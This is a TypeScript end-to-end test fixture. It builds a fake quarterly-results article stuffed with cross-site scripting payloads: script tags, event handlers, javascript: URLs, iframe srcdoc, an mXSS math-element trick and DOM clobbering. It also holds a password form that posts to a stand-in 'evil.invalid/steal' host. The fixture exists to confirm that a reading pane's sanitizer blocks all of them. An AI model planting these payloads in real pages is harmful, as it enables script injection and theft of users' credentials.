/**
 * An article whose content tries every common way to run script in the
 * reading pane. The end-to-end test opens it and asserts nothing ran.
 */
export const HOSTILE_TITLE = 'Quarterly results (hostile markup inside)';

export const HOSTILE_HTML = [
  '<p>Revenue grew modestly in the quarter, the company said.</p>',
  '<script>window.__pwned = true; alert("script")</script>',
  '<img src="data:image/png;base64,AAAA" onerror="alert(\'onerror\')" alt="chart">',
  '<a href="javascript:alert(\'link\')" onclick="alert(\'onclick\')">Read the filing</a>',
  '<a href="JaVaScRiPt&#58;alert(\'entity\')">Another link</a>',
  '<iframe srcdoc="<script>parent.alert(\'srcdoc\')</script>"></iframe>',
  '<svg onload="alert(\'svg\')"><script>alert("svg script")</script></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(\'noscript\')>"></noscript>',
  '<form action="https://evil.invalid/steal"><input name="password"><button formaction="javascript:alert(\'form\')">Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(\'meta\')">',
  '<base href="javascript:alert(\'base\')//">',
  '<style>body { display: none }</style>',
  '<p style="position:fixed;inset:0" id="cookie" name="cookie">Clobbering attempt.</p>',
  '<details open ontoggle="alert(\'toggle\')"><summary>Details</summary>More.</details>',
  '<p>Analysts expect a steadier second half.</p>',
  // Last: unclosed foreign content swallows whatever follows it.
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")>',
].join('\n');
